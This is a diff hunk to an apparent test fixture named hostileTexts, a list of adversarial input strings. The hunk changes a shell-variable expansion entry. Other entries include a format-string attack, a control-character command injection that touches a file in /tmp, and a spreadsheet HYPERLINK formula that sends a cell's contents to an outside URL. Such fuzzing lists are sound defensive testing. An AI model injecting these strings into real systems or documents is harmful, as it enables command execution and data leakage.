@@ -25,7 +25,7 @@ export const hostileTexts = [
 	"a\\",
 	"!!",
 	"%s%n",
-	"$HOME ${IFS} *",
+	"$HOME $IFS *",
 	"\u0003touch /tmp/tidemill-was-here\r",
 	// Spreadsheets
 	'=HYPERLINK("http://example.com/?"&A1)',
